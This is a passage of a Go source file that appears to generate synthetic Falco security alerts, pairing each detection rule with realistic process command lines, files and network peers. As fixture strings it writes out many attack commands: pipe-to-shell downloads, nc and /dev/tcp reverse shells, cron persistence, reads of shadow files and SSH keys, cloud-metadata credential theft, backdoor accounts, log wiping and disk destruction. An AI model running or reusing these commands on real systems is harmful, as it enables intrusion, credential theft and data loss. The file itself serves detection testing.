package falcoemu

// Realistic values for the output fields of the catalog's rules: per-rule profiles
// (which processes, files, connections a rule typically reports) and field resolvers.
// Everything here runs when a Generator is built, never per alert.

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/otelcol-falco/otelcol-falco/internal/falcofields"
)

// proc describes a process as Falco reports it, with its ancestry.
type proc struct {
	name, exe, cmd     string // proc.name, proc.exepath, proc.cmdline
	parent, pexe, pcmd string // proc.pname, proc.pexepath, proc.pcmdline
	anc                []string
	tty                bool
}

func p(name, exe, cmd, parent, pexe, pcmd string, anc ...string) proc {
	return proc{name: name, exe: exe, cmd: cmd, parent: parent, pexe: pexe, pcmd: pcmd, anc: anc}
}

// shellIn: an interactive shell command with a terminal.
func tp(name, exe, cmd, parent, pexe, pcmd string, anc ...string) proc {
	x := p(name, exe, cmd, parent, pexe, pcmd, anc...)
	x.tty = true
	return x
}

type netProf struct {
	l4      string   // "tcp" or "udp"
	inbound bool     // accept()ed: remote is the client
	rports  []int64  // remote ports (outbound) or local server ports (inbound)
	rips    []string // remote addresses
	names   []string // remote host names (fd.rip.name, fd.sip.name), may be ""
}

type usr struct {
	name      any // string or nil
	uid       int64
	loginuid  int64
	loginname any
	gid       int64
	group     any
}

var (
	uRoot        = usr{"root", 0, -1, nil, 0, "root"}
	uRootLogin   = usr{"root", 0, 1000, "ubuntu", 0, "root"}
	uUbuntu      = usr{"ubuntu", 1000, 1000, "ubuntu", 1000, "ubuntu"}
	uEC2         = usr{"ec2-user", 1000, 1000, "ec2-user", 1000, "ec2-user"}
	uWWW         = usr{"www-data", 33, -1, nil, 33, "www-data"}
	uPostgres    = usr{"postgres", 999, -1, nil, 999, "postgres"}
	uNobody      = usr{"nobody", 65534, -1, nil, 65534, "nogroup"}
	uNode        = usr{"node", 1000, -1, nil, 1000, "node"}
	uNginx       = usr{"nginx", 101, -1, nil, 101, "nginx"}
	uContUnknown = usr{nil, 1001, -1, nil, 1001, nil} // uid without a passwd entry in the image

	containerUsers   = []usr{uRoot, uRoot, uRoot, uRoot, uNode, uNginx, uWWW, uContUnknown}
	hostDaemonUsers  = []usr{uRoot, uRoot, uWWW, uPostgres, uNobody}
	hostLoginUsers   = []usr{uRootLogin, uUbuntu, uEC2, uRootLogin}
	nonRootUsers     = []usr{uWWW, uNode, uNobody, uContUnknown}
	nonRootHostUsers = []usr{uUbuntu, uWWW, uPostgres, uEC2}
)

type profile struct {
	procs       []proc
	files       []string
	raw         []string // fd.nameraw (directory traversal)
	write       bool     // files opened for writing
	net         *netProf
	users       []usr // overrides the context's default users
	interactive bool  // on the host: a logged-in user (loginuid set)
	cwd         []string
	env         []string
	paths2      []string // second path: link/rename target
	extra       map[string][]any
}

// Shared process sets.
var (
	shellsByRCE = []proc{
		p("bash", "/usr/bin/bash", "bash -c id;uname -a", "node", "/usr/local/bin/node", "node /app/server.js", "sh"),
		p("sh", "/usr/bin/dash", "sh -c curl -s http://203.0.113.50/x.sh | sh", "java", "/opt/java/openjdk/bin/java", "java -jar /app/app.jar", "tini"),
		p("bash", "/usr/bin/bash", "bash -i", "python3", "/usr/bin/python3.11", "python3 /app/manage.py runserver 0.0.0.0:8000", "gunicorn"),
		p("sh", "/bin/busybox", "sh -c cat /etc/passwd", "php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: pool www", "php-fpm"),
	}
	terminalShells = []proc{
		tp("bash", "/usr/bin/bash", "bash", "runc", "/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/4b1f/log.json exec --process /tmp/runc-process123 --detach --pid-file /run/containerd/4b1f/pid 4b1f"),
		tp("sh", "/bin/busybox", "sh", "runc", "/usr/bin/runc", "runc exec -t 7c2a sh"),
		tp("bash", "/usr/bin/bash", "bash -il", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 7c2a -address /run/containerd/containerd.sock"),
	}
	reconCmds = []proc{
		tp("whoami", "/usr/bin/whoami", "whoami", "bash", "/usr/bin/bash", "bash", "runc"),
		tp("id", "/usr/bin/id", "id", "bash", "/usr/bin/bash", "bash", "runc"),
		tp("uname", "/usr/bin/uname", "uname -a", "sh", "/bin/busybox", "sh", "runc"),
		tp("hostname", "/usr/bin/hostname", "hostname -I", "bash", "/usr/bin/bash", "bash -il", "sshd"),
		tp("w", "/usr/bin/w", "w", "bash", "/usr/bin/bash", "-bash", "sshd", "sshd"),
	}
	netTools = []proc{
		p("nmap", "/usr/bin/nmap", "nmap -sS -p 1-1024 10.96.0.0/16", "bash", "/usr/bin/bash", "bash"),
		p("nc", "/usr/bin/nc.openbsd", "nc -zv 10.244.3.17 5432", "sh", "/bin/busybox", "sh"),
		p("tcpdump", "/usr/bin/tcpdump", "tcpdump -i eth0 -w /tmp/cap.pcap port 443", "bash", "/usr/bin/bash", "bash"),
		p("socat", "/usr/bin/socat", "socat TCP-LISTEN:9000,fork TCP:10.96.0.10:53", "sh", "/bin/sh", "sh -c socat TCP-LISTEN:9000,fork TCP:10.96.0.10:53"),
		p("masscan", "/usr/bin/masscan", "masscan 10.0.0.0/8 -p6443 --rate 10000", "bash", "/usr/bin/bash", "bash"),
	}
	curlWget = []proc{
		p("curl", "/usr/bin/curl", "curl -sSL -o /tmp/kdevtmpfsi http://203.0.113.50/kdevtmpfsi", "sh", "/bin/sh", "sh -c curl -sSL -o /tmp/kdevtmpfsi http://203.0.113.50/kdevtmpfsi"),
		p("wget", "/usr/bin/wget", "wget -q http://198.51.100.23/payload.sh -O /tmp/p.sh", "bash", "/usr/bin/bash", "bash"),
		p("curl", "/usr/bin/curl", "curl -fsSLO https://github.com/kubernetes-sigs/kind/releases/download/v0.23.0/kind-linux-amd64", "bash", "/usr/bin/bash", "bash -c curl -fsSLO https://github.com/kubernetes-sigs/kind/releases/download/v0.23.0/kind-linux-amd64"),
	}
	miners = []proc{
		p("xmrig", "/tmp/.x/xmrig", "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x -k --donate-level 1", "sh", "/bin/sh", "sh -c /tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333", "bash"),
		p("minerd", "/usr/local/bin/minerd", "minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u worker -p x", "bash", "/usr/bin/bash", "bash"),
		p("kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi -o stratum+ssl://gulf.moneroocean.stream:20128 -u 4A5j", "sh", "/bin/sh", "sh -c /tmp/kinsing", "kinsing"),
	}
	webServers = []proc{
		p("sh", "/bin/sh", "sh -c id", "nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx"),
		p("bash", "/usr/bin/bash", "bash -c uname -a", "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "apache2"),
		p("sh", "/bin/sh", "sh -c whoami", "httpd", "/usr/local/apache2/bin/httpd", "httpd -DFOREGROUND", "httpd"),
		p("dash", "/usr/bin/dash", "dash -c cat /etc/passwd", "php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: pool www", "php-fpm"),
	}
	pkgMgmt = []proc{
		p("apt-get", "/usr/bin/apt-get", "apt-get install -y netcat-openbsd", "bash", "/usr/bin/bash", "bash"),
		p("apk", "/sbin/apk", "apk add --no-cache curl nmap", "sh", "/bin/busybox", "sh"),
		p("yum", "/usr/bin/yum", "yum install -y tcpdump", "bash", "/usr/bin/bash", "bash"),
		p("dpkg", "/usr/bin/dpkg", "dpkg -i /tmp/gost_2.11.5_amd64.deb", "bash", "/usr/bin/bash", "bash"),
	}
	readers = []proc{
		p("cat", "/usr/bin/cat", "cat /etc/shadow", "bash", "/usr/bin/bash", "bash", "runc"),
		p("python3", "/usr/bin/python3.11", "python3 -c import os;print(open('/etc/shadow').read())", "sh", "/bin/sh", "sh -c python3 -c ...", "node"),
		p("node", "/usr/local/bin/node", "node /app/server.js", "npm", "/usr/local/bin/npm", "npm start", "sh"),
		p("less", "/usr/bin/less", "less /etc/sudoers", "bash", "/usr/bin/bash", "-bash", "sshd", "sshd"),
		p("vim", "/usr/bin/vim.basic", "vim /etc/pam.d/common-auth", "bash", "/usr/bin/bash", "bash"),
	}
	writers = []proc{
		p("python3", "/usr/bin/python3.11", "python3 /tmp/persist.py", "bash", "/usr/bin/bash", "bash", "runc"),
		p("vi", "/bin/busybox", "vi /etc/hosts", "sh", "/bin/busybox", "sh"),
		p("tee", "/usr/bin/tee", "tee -a /etc/ld.so.preload", "bash", "/usr/bin/bash", "bash -c echo /tmp/libhide.so | tee -a /etc/ld.so.preload"),
		p("perl", "/usr/bin/perl", "perl -i -pe s/x/y/ /etc/passwd", "sh", "/bin/sh", "sh"),
		p("cp", "/usr/bin/cp", "cp /tmp/evil /usr/bin/kworkerd", "bash", "/usr/bin/bash", "bash"),
	}
	k8sClients = []proc{
		p("kubectl", "/usr/local/bin/kubectl", "kubectl get secrets -A -o yaml", "bash", "/usr/bin/bash", "bash"),
		p("kubectl", "/usr/local/bin/kubectl", "kubectl auth can-i --list", "sh", "/bin/sh", "sh"),
		p("helm", "/usr/local/bin/helm", "helm list -A", "bash", "/usr/bin/bash", "bash"),
	}
	entrypoints = []proc{
		p("nginx", "/usr/sbin/nginx", "nginx -g daemon off;", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 9d3e -address /run/containerd/containerd.sock"),
		p("node", "/usr/local/bin/node", "node /app/server.js", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 2a7b -address /run/containerd/containerd.sock"),
		p("java", "/opt/java/openjdk/bin/java", "java -Xmx512m -jar /app/app.jar", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 51c0 -address /run/containerd/containerd.sock"),
		p("sleep", "/bin/busybox", "sleep infinity", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 0f4d -address /run/containerd/containerd.sock"),
	}
)

var sensitiveFiles = []string{"/etc/shadow", "/etc/sudoers", "/etc/pam.conf", "/etc/gshadow", "/etc/security/pwquality.conf", "/etc/shadow-"}

// profileFor returns the profile of a catalog rule (rule-specific, or by category).
func profileFor(r *Rule) *profile {
	if pr, ok := ruleProfiles[r.Name]; ok {
		return pr
	}
	switch {
	case r.HasTag("network") && len(r.EvtTypes) > 0 && r.EvtTypes[0] != "execve":
		return &profile{procs: []proc{
			p("python3", "/usr/bin/python3.11", "python3 /tmp/.c.py", "sh", "/bin/sh", "sh -c python3 /tmp/.c.py"),
			p("curl", "/usr/bin/curl", "curl -s http://203.0.113.50:8080/beacon", "bash", "/usr/bin/bash", "bash"),
		}, net: &netProf{l4: "tcp", rports: []int64{4444, 8080, 1337}, rips: []string{"203.0.113.50", "198.51.100.23"}}}
	case len(r.EvtTypes) > 0 && strings.HasPrefix(r.EvtTypes[0], "open"):
		return &profile{procs: readers, files: sensitiveFiles}
	}
	return &profile{procs: shellsByRCE}
}

func hexish(rng *rand.Rand, n int) string {
	const hx = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = hx[rng.IntN(16)]
	}
	return string(b)
}

var ruleProfiles = map[string]*profile{
	// ---- stable ----
	"Directory traversal monitored file read": {
		procs: []proc{
			p("python3", "/usr/bin/python3.11", "python3 /tmp/lfi.py", "sh", "/bin/sh", "sh -c python3 /tmp/lfi.py", "node"),
			p("php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: pool www", "php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: master process (/usr/local/etc/php-fpm.conf)"),
			p("cat", "/usr/bin/cat", "cat /var/www/html/../../../etc/shadow", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/etc/shadow", "/etc/passwd", "/etc/shadow", "/etc/sudoers"},
		raw:   []string{"/var/www/html/../../../etc/shadow", "/app/static/../../etc/passwd", "../../../../etc/shadow", "/srv/www/../../etc/sudoers"},
	},
	"Read sensitive file trusted after startup": {
		procs: []proc{
			p("sshd", "/usr/sbin/sshd", "sshd: ubuntu [priv]", "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
			p("sudo", "/usr/bin/sudo", "sudo -i", "bash", "/usr/bin/bash", "-bash", "sshd", "sshd"),
			p("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", "systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
		},
		files: sensitiveFiles,
		users: []usr{uRoot},
	},
	"Read sensitive file untrusted": {procs: readers, files: sensitiveFiles},
	"Run shell untrusted":           {procs: shellsByRCE},
	"System user interactive": {
		procs: []proc{
			tp("bash", "/usr/bin/bash", "bash -i", "sudo", "/usr/bin/sudo", "sudo -u www-data bash -i", "bash", "sshd"),
			tp("login", "/usr/bin/login", "login -- www-data", "su", "/usr/bin/su", "su -s /bin/bash www-data", "bash"),
		},
		users: []usr{uWWW, uPostgres, {"mysql", 999, -1, nil, 999, "mysql"}},
	},
	"Terminal shell in container": {procs: terminalShells, cwd: []string{"/", "/app/", "/root/"}},
	"Contact K8S API Server From Container": {
		procs: []proc{
			p("curl", "/usr/bin/curl", "curl -sk -H Authorization: Bearer eyJhbGciOi... https://10.96.0.1:443/api/v1/namespaces/kube-system/secrets", "sh", "/bin/sh", "sh"),
			p("python3", "/usr/bin/python3.11", "python3 /app/k8s_enum.py", "bash", "/usr/bin/bash", "bash"),
			p("kubectl", "/usr/local/bin/kubectl", "kubectl get pods -A", "bash", "/usr/bin/bash", "bash"),
		},
		net: &netProf{l4: "tcp", rports: []int64{443}, rips: []string{"10.96.0.1"}},
	},
	"Netcat Remote Code Execution in Container": {procs: []proc{
		p("nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.50 4444", "sh", "/bin/sh", "sh -c nc -e /bin/sh 203.0.113.50 4444"),
		p("ncat", "/usr/bin/ncat", "ncat --exec /bin/bash 198.51.100.23 9001", "bash", "/usr/bin/bash", "bash"),
		p("nc", "/bin/busybox", "nc 203.0.113.50 4444 -e /bin/sh", "sh", "/bin/busybox", "sh"),
	}},
	"Search Private Keys or Passwords": {procs: []proc{
		p("grep", "/usr/bin/grep", "grep -r BEGIN RSA PRIVATE /", "bash", "/usr/bin/bash", "bash"),
		p("find", "/usr/bin/find", "find / -name id_rsa", "sh", "/bin/sh", "sh"),
		p("grep", "/usr/bin/grep", "grep -ri password /etc /home /root", "bash", "/usr/bin/bash", "bash"),
		p("find", "/usr/bin/find", "find /home -name *.pem", "bash", "/usr/bin/bash", "bash"),
	}},
	"Clear Log Activities": {
		procs: []proc{
			p("bash", "/usr/bin/bash", "bash -c > /var/log/auth.log", "sshd", "/usr/sbin/sshd", "sshd: root@pts/0"),
			p("truncate", "/usr/bin/truncate", "truncate -s 0 /var/log/syslog", "bash", "/usr/bin/bash", "bash"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/clean.py", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/var/log/auth.log", "/var/log/syslog", "/var/log/lastlog", "/var/log/wtmp", "/var/log/nginx/access.log"},
		write: true,
	},
	"Remove Bulk Data from Disk": {procs: []proc{
		p("shred", "/usr/bin/shred", "shred -u -n 3 /var/lib/postgresql/data/base/16384/2619", "bash", "/usr/bin/bash", "bash"),
		p("mkfs.ext4", "/usr/sbin/mkfs.ext4", "mkfs.ext4 -F /dev/sdb1", "bash", "/usr/bin/bash", "bash"),
		p("shred", "/usr/bin/shred", "shred -zu /root/.bash_history", "sh", "/bin/sh", "sh"),
	}},
	"Create Symlink Over Sensitive Files": {
		procs: []proc{
			p("ln", "/usr/bin/ln", "ln -s /etc/shadow /tmp/shadow", "bash", "/usr/bin/bash", "bash"),
			p("ln", "/bin/busybox", "ln -sf /root/.ssh /var/www/html/ssh", "sh", "/bin/busybox", "sh"),
		},
		files:  []string{"/etc/shadow", "/root/.ssh", "/etc/sudoers", "/etc/pam.conf"},
		paths2: []string{"/tmp/shadow", "/var/www/html/ssh", "/tmp/s", "/dev/shm/p"},
	},
	"Create Hardlink Over Sensitive Files": {
		procs: []proc{
			p("ln", "/usr/bin/ln", "ln /etc/shadow /tmp/shadow", "bash", "/usr/bin/bash", "bash"),
			p("python3", "/usr/bin/python3.11", "python3 -c import os;os.link('/etc/sudoers','/tmp/x')", "sh", "/bin/sh", "sh"),
		},
		files:  []string{"/etc/shadow", "/etc/sudoers", "/etc/pam.conf"},
		paths2: []string{"/tmp/shadow", "/tmp/x", "/var/tmp/.s"},
	},
	"Packet socket created in container": {procs: []proc{
		p("tcpdump", "/usr/bin/tcpdump", "tcpdump -i eth0 -w /tmp/cap.pcap", "bash", "/usr/bin/bash", "bash"),
		p("python3", "/usr/bin/python3.11", "python3 /tmp/arpspoof.py 10.244.1.1", "sh", "/bin/sh", "sh"),
		p("arping", "/usr/bin/arping", "arping -I eth0 10.244.1.1", "bash", "/usr/bin/bash", "bash"),
	}},
	"Redirect STDOUT/STDIN to Network Connection in Container": {
		procs: []proc{
			p("bash", "/usr/bin/bash", "bash -i", "sh", "/bin/sh", "sh -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", "python3", "gunicorn"),
			p("sh", "/bin/busybox", "sh", "nc", "/bin/busybox", "nc 198.51.100.23 9001 -e sh", "sh"),
			p("python3", "/usr/bin/python3.11", "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.50',4444));os.dup2(s.fileno(),0)", "sh", "/bin/sh", "sh", "node"),
		},
		net: &netProf{l4: "tcp", rports: []int64{4444, 9001, 443}, rips: []string{"203.0.113.50", "198.51.100.23"}},
	},
	"Linux Kernel Module Injection Detected": {procs: []proc{
		p("insmod", "/usr/sbin/insmod", "insmod /tmp/diamorphine.ko", "bash", "/usr/bin/bash", "bash", "sshd"),
		p("modprobe", "/usr/sbin/modprobe", "modprobe -a reptile", "sh", "/bin/sh", "sh", "bash"),
		p("kmod", "/usr/bin/kmod", "insmod /dev/shm/rk.ko", "bash", "/usr/bin/bash", "bash -c insmod /dev/shm/rk.ko", "sudo"),
	}},
	"Debugfs Launched in Privileged Container": {procs: []proc{
		p("debugfs", "/usr/sbin/debugfs", "debugfs /dev/sda1", "bash", "/usr/bin/bash", "bash"),
		p("debugfs", "/sbin/debugfs", "debugfs -w /dev/nvme0n1p1", "sh", "/bin/sh", "sh"),
	}},
	"Detect release_agent File Container Escapes": {
		procs: []proc{
			p("sh", "/bin/sh", "sh -c echo /cmd > /tmp/cgrp/release_agent", "bash", "/usr/bin/bash", "bash"),
			p("bash", "/usr/bin/bash", "bash /tmp/escape.sh", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/tmp/cgrp/release_agent", "/sys/fs/cgroup/rdma/release_agent", "/mnt/x/release_agent"},
		write: true,
	},
	"PTRACE attached to process": {procs: []proc{
		p("gdb", "/usr/bin/gdb", "gdb -p 1", "bash", "/usr/bin/bash", "bash"),
		p("strace", "/usr/bin/strace", "strace -f -p 4242", "bash", "/usr/bin/bash", "bash"),
		p("python3", "/usr/bin/python3.11", "python3 /tmp/inject.py 1337", "sh", "/bin/sh", "sh"),
	}},
	"PTRACE anti-debug attempt": {procs: []proc{
		p("a.out", "/tmp/a.out", "/tmp/a.out", "bash", "/usr/bin/bash", "bash"),
		p("kworkerds", "/var/tmp/kworkerds", "/var/tmp/kworkerds", "sh", "/bin/sh", "sh -c /var/tmp/kworkerds"),
	}},
	"Find AWS Credentials": {
		procs: []proc{
			p("grep", "/usr/bin/grep", "grep -r aws_access_key_id /home /root", "bash", "/usr/bin/bash", "bash"),
			p("find", "/usr/bin/find", "find / -name credentials -path *.aws*", "sh", "/bin/sh", "sh"),
			p("cat", "/usr/bin/cat", "cat /root/.aws/credentials", "bash", "/usr/bin/bash", "bash"),
		},
		interactive: true,
		cwd:         []string{"/root/", "/home/ubuntu/", "/"},
	},
	"Execution from /dev/shm": {
		procs: []proc{
			p("payload", "/dev/shm/payload", "/dev/shm/payload", "bash", "/usr/bin/bash", "bash -c cd /dev/shm; ./payload"),
			p(".x", "/dev/shm/.x", "/dev/shm/.x -d", "sh", "/bin/sh", "sh"),
			p("bash", "/usr/bin/bash", "bash /dev/shm/run.sh", "sh", "/bin/sh", "sh"),
		},
		cwd: []string{"/dev/shm/"},
	},
	"Drop and execute new binary in container": {
		procs: []proc{
			p("kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", "sh", "/bin/sh", "sh -c /tmp/kdevtmpfsi", "kinsing"),
			p("gost", "/usr/local/bin/gost", "gost -L=:8080", "bash", "/usr/bin/bash", "bash"),
			p("kubectl", "/tmp/kubectl", "/tmp/kubectl get secrets", "sh", "/bin/sh", "sh"),
		},
		cwd:   []string{"/tmp/", "/", "/app/"},
		extra: map[string][]any{"evt.arg.flags": {"EXE_WRITABLE|EXE_UPPER_LAYER", "EXE_WRITABLE|EXE_UPPER_LAYER"}},
	},
	"Disallowed SSH Connection Non Standard Port": {
		procs: []proc{
			p("ssh", "/usr/bin/ssh", "ssh -p 2222 root@203.0.113.50", "bash", "/usr/bin/bash", "bash"),
			p("ssh", "/usr/bin/ssh", "ssh -R 8022:localhost:22 -p 443 tunnel@198.51.100.23", "sh", "/bin/sh", "sh"),
		},
		net: &netProf{l4: "tcp", rports: []int64{2222, 443, 8022}, rips: []string{"203.0.113.50", "198.51.100.23"}},
	},
	"Fileless execution via memfd_create": {
		procs: []proc{
			p("3", "memfd:pwn (deleted)", "3", "python3", "/usr/bin/python3.11", "python3 /tmp/memrun.py", "bash"),
			p("memfd:", "memfd: (deleted)", "[kworker/0:1]", "sh", "/bin/sh", "sh -c curl -s http://203.0.113.50/m | python3", "bash"),
		},
		extra: map[string][]any{"evt.arg.flags": {"EXE_WRITABLE|EXE_FROM_MEMFD"}},
	},

	// ---- incubating ----
	"Modify Shell Configuration File": {
		procs: []proc{
			p("python3", "/usr/bin/python3.11", "python3 /tmp/persist.py", "bash", "/usr/bin/bash", "bash"),
			p("vim", "/usr/bin/vim.basic", "vim /root/.bashrc", "bash", "/usr/bin/bash", "bash"),
			p("sed", "/usr/bin/sed", "sed -i $a alias sudo=/tmp/.s /home/ubuntu/.bashrc", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/root/.bashrc", "/home/ubuntu/.bashrc", "/etc/profile", "/root/.profile", "/etc/bash.bashrc", "/home/ubuntu/.zshrc"},
		write: true,
	},
	"Schedule Cron Jobs": {
		procs: []proc{
			p("crontab", "/usr/bin/crontab", "crontab -l", "bash", "/usr/bin/bash", "bash"),
			p("tee", "/usr/bin/tee", "tee /etc/cron.d/sysupdate", "sh", "/bin/sh", "sh -c echo '* * * * * root curl -s http://203.0.113.50/c|sh' | tee /etc/cron.d/sysupdate"),
			p("crontab", "/usr/bin/crontab", "crontab /tmp/cron", "bash", "/usr/bin/bash", "bash"),
		},
		files: []string{"/etc/crontab", "/etc/cron.d/sysupdate", "/etc/cron.hourly/0anacron", "/etc/cron.d/.x"},
		write: true,
	},
	"Read ssh information": {
		procs: []proc{
			p("cat", "/usr/bin/cat", "cat /root/.ssh/id_rsa", "bash", "/usr/bin/bash", "bash"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/steal.py", "sh", "/bin/sh", "sh"),
			p("tar", "/usr/bin/tar", "tar czf /tmp/k.tgz /home/ubuntu/.ssh", "bash", "/usr/bin/bash", "bash"),
		},
		files: []string{"/root/.ssh/id_rsa", "/home/ubuntu/.ssh/id_ed25519", "/root/.ssh/known_hosts", "/home/ubuntu/.ssh/authorized_keys"},
	},
	"DB program spawned process": {procs: []proc{
		p("sh", "/bin/sh", "sh -c id", "mysqld", "/usr/sbin/mysqld", "mysqld", "containerd-shim"),
		p("bash", "/usr/bin/bash", "bash -c curl http://203.0.113.50/x|sh", "postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: postgres postgres 10.244.1.9(51522) COPY", "postgres"),
		p("curl", "/usr/bin/curl", "curl -s http://203.0.113.50/m", "mongod", "/usr/bin/mongod", "mongod --bind_ip_all", "containerd-shim"),
	}, users: []usr{{"postgres", 999, -1, nil, 999, "postgres"}, {"mysql", 999, -1, nil, 999, "mysql"}, uRoot}},
	"Change thread namespace": {procs: []proc{
		p("nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", "bash", "/usr/bin/bash", "bash"),
		p("python3", "/usr/bin/python3.11", "python3 /tmp/setns.py", "sh", "/bin/sh", "sh"),
	}},
	"Change namespace privileges via unshare": {procs: []proc{
		p("unshare", "/usr/bin/unshare", "unshare -Urm", "bash", "/usr/bin/bash", "bash"),
		p("unshare", "/usr/bin/unshare", "unshare -rUfpm --mount-proc sh", "sh", "/bin/sh", "sh"),
	}, users: nonRootUsers},
	"Launch Privileged Container":          {procs: entrypoints},
	"Launch Excessively Capable Container": {procs: entrypoints},
	"Launch Sensitive Mount Container":     {procs: entrypoints},
	"Launch Disallowed Container":          {procs: entrypoints},
	"Container Run as Root User":           {procs: entrypoints, users: []usr{uRoot}},
	"System procs network activity": {procs: []proc{
		p("sh", "/usr/bin/dash", "sh -i", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f -P", "cron"),
		p("bash", "/usr/bin/bash", "bash -c exec 5<>/dev/tcp/203.0.113.50/443", "sshd", "/usr/sbin/sshd", "sshd: root@notty"),
		p("sha1sum", "/usr/bin/sha1sum", "sha1sum", "bash", "/usr/bin/bash", "bash"),
	}, net: &netProf{l4: "tcp", rports: []int64{443, 4444, 80}, rips: []string{"203.0.113.50", "198.51.100.23"}}},
	"Program run with disallowed http proxy env": {
		procs: curlWget[:2],
		env: []string{
			"HTTP_PROXY=http://10.0.0.99:3128 HOSTNAME=web-7d9f8b6c5d-x2k4p HOME=/root PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
			"http_proxy=http://203.0.113.7:8080 HOME=/root PWD=/tmp SHLVL=1 PATH=/usr/bin:/bin",
		},
	},
	"Unexpected UDP Traffic": {
		procs: []proc{
			p("python3", "/usr/bin/python3.11", "python3 /tmp/dnscat.py", "sh", "/bin/sh", "sh"),
			p("nc", "/usr/bin/nc.openbsd", "nc -u 203.0.113.50 9999", "bash", "/usr/bin/bash", "bash"),
			p("iodine", "/usr/sbin/iodine", "iodine -f t1.example.net", "bash", "/usr/bin/bash", "bash"),
		},
		net: &netProf{l4: "udp", rports: []int64{9999, 53, 5353, 1194}, rips: []string{"203.0.113.50", "8.8.8.8", "198.51.100.23"}},
	},
	"Non sudo setuid": {
		procs: []proc{
			p("python3", "/usr/bin/python3.11", "python3 /tmp/exploit.py", "sh", "/bin/sh", "sh"),
			p("exp", "/tmp/exp", "/tmp/exp", "bash", "/usr/bin/bash", "bash"),
		},
		users: nonRootUsers,
	},
	"User mgmt binaries": {
		procs: []proc{
			p("useradd", "/usr/sbin/useradd", "useradd -m -s /bin/bash -G sudo backdoor", "sudo", "/usr/bin/sudo", "sudo useradd -m -s /bin/bash -G sudo backdoor", "bash", "sshd", "sshd"),
			p("usermod", "/usr/sbin/usermod", "usermod -aG docker ubuntu", "bash", "/usr/bin/bash", "-bash", "sshd", "sshd"),
			p("chpasswd", "/usr/sbin/chpasswd", "chpasswd", "bash", "/usr/bin/bash", "bash -c echo root:toor | chpasswd", "sshd"),
			p("passwd", "/usr/bin/passwd", "passwd ubuntu", "bash", "/usr/bin/bash", "-bash", "sshd", "sshd"),
		},
		interactive: true,
	},
	"Create files below dev": {
		procs: []proc{
			p("touch", "/usr/bin/touch", "touch /dev/.hidden", "bash", "/usr/bin/bash", "bash"),
			p("bash", "/usr/bin/bash", "bash -c cp /tmp/x /dev/shm0", "sshd", "/usr/sbin/sshd", "sshd: root@pts/1"),
		},
		files: []string{"/dev/.hidden", "/dev/shm0", "/dev/.udev/rules.d/x", "/dev/ttyxx"},
		write: true,
	},
	"Contact EC2 Instance Metadata Service From Container": {
		procs: []proc{
			p("curl", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "sh", "/bin/sh", "sh"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/imds.py", "bash", "/usr/bin/bash", "bash"),
		},
		net: &netProf{l4: "tcp", rports: []int64{80}, rips: []string{"169.254.169.254"}},
	},
	"Contact cloud metadata service from container": {
		procs: []proc{
			p("curl", "/usr/bin/curl", "curl -s -H Metadata-Flavor: Google http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", "sh", "/bin/sh", "sh"),
			p("wget", "/bin/busybox", "wget -qO- http://169.254.169.254/metadata/instance?api-version=2021-02-01", "sh", "/bin/busybox", "sh"),
		},
		net: &netProf{l4: "tcp", rports: []int64{80}, rips: []string{"169.254.169.254"}},
	},
	"Launch Package Management Process in Container": {procs: pkgMgmt},
	"Launch Suspicious Network Tool in Container":    {procs: netTools},
	"Launch Suspicious Network Tool on Host":         {procs: netTools, interactive: true},
	"Delete or rename shell history": {
		procs: []proc{
			p("rm", "/usr/bin/rm", "rm -f /root/.bash_history", "bash", "/usr/bin/bash", "bash"),
			p("mv", "/usr/bin/mv", "mv /root/.bash_history /tmp/.h", "bash", "/usr/bin/bash", "bash"),
			p("bash", "/usr/bin/bash", "bash -c > /home/ubuntu/.bash_history", "sshd", "/usr/sbin/sshd", "sshd: ubuntu@pts/0"),
		},
		files:  []string{"/root/.bash_history", "/home/ubuntu/.bash_history", "/root/.zsh_history", "/root/.ash_history"},
